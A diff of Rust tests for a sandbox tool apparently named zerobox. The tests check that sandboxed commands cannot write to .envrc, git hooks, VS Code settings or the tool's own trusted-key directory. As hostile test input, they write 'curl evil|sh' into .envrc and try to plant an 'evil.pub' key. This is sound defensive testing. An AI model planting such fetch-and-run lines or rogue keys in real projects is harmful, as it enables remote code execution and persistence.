@@ -729,11 +729,17 @@ fn profile_applies_a_preset_to_a_plain_run() {
         &p,
         &["--profile", "protect-shell", "--allow-write=."],
         "echo 'curl evil|sh' > .envrc 2>/dev/null && echo ENVRC-WRITTEN; \
-         mkdir -p .git/hooks/x 2>/dev/null && echo HOOKS-WRITTEN; echo ok > ok.txt && cat ok.txt",
+         mkdir -p .git/hooks/x 2>/dev/null && echo HOOKS-WRITTEN; \
+         test -f .vscode/settings.json && ! test -s .vscode/settings.json && echo empty-file; \
+         echo '{}' > .vscode/settings.json 2>/dev/null && echo VSCODE-WRITTEN; \
+         echo ok > ok.txt && cat ok.txt",
     );
-    assert_eq!(r.stdout, "ok\n", "{r:?}");
+    // A missing protected file (it has an extension) is held by an empty,
+    // read-only file, so programs that read it see an empty file, not a
+    // directory.
+    assert_eq!(r.stdout, "empty-file\nok\n", "{r:?}");
     assert!(
-        !p.join(".envrc").exists() && !p.join(".git").exists(),
+        !p.join(".envrc").exists() && !p.join(".git").exists() && !p.join(".vscode").exists(),
         "placeholder left behind"
     );
     let r = run_in(&p, &["--profile", "no-such-profile-zb", "--", "true"]);
@@ -787,4 +793,50 @@ sys.stdout.write(out.decode(errors="replace"))
     assert!(!s.contains("got-int-2"), "Ctrl-C delivered twice: {s}");
     assert!(s.contains("got-winch"), "{s}");
     assert!(s.contains("total-1"), "{s}");
+}
+
+/// A preset's state directories under HOME are created (0700) when missing,
+/// so the agent can write its state; a secret the preset declares but the
+/// user does not have is simply not injected (the run does not fail).
+#[test]
+fn preset_state_dirs_are_created_and_unset_preset_secrets_are_skipped() {
+    use std::os::unix::fs::PermissionsExt;
+    let home = scratch();
+    let work = scratch();
+    let out = zerobox()
+        .current_dir(work.path())
+        .env("HOME", home.path())
+        .env_remove("ANTHROPIC_API_KEY")
+        .env_remove("XDG_CONFIG_HOME")
+        .env_remove("XDG_DATA_HOME")
+        .env_remove("XDG_CACHE_HOME")
+        .args(["--profile", "claude", "--", "sh", "-c", "echo state > ~/.claude/s && cat ~/.claude/s; echo x > ~/other 2>/dev/null || echo home-denied"])
+        .output()
+        .unwrap();
+    let r = common::Run::from(out);
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(r.stdout, "state\nhome-denied\n", "{r:?}");
+    let mode = std::fs::metadata(home.path().join(".claude"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0o700);
+}
+
+/// zerobox's own config (trusted keys, trusted project files) stays
+/// unwritable inside even when a grant covers it.
+#[test]
+fn own_config_dir_is_never_writable_inside() {
+    let d = scratch();
+    let p = real(d.path());
+    std::fs::create_dir_all(p.join("cfg/zerobox/keys")).unwrap();
+    let out = zerobox()
+        .current_dir(&p)
+        .env("XDG_CONFIG_HOME", p.join("cfg"))
+        .args(["--allow-write=.", "--", "sh", "-c", "echo k > cfg/zerobox/keys/evil.pub 2>/dev/null || echo denied; echo y > cfg/other && echo other-ok"])
+        .output()
+        .unwrap();
+    let r = common::Run::from(out);
+    assert_eq!(r.stdout, "denied\nother-ok\n", "{r:?}");
+    assert!(!p.join("cfg/zerobox/keys/evil.pub").exists());
 }
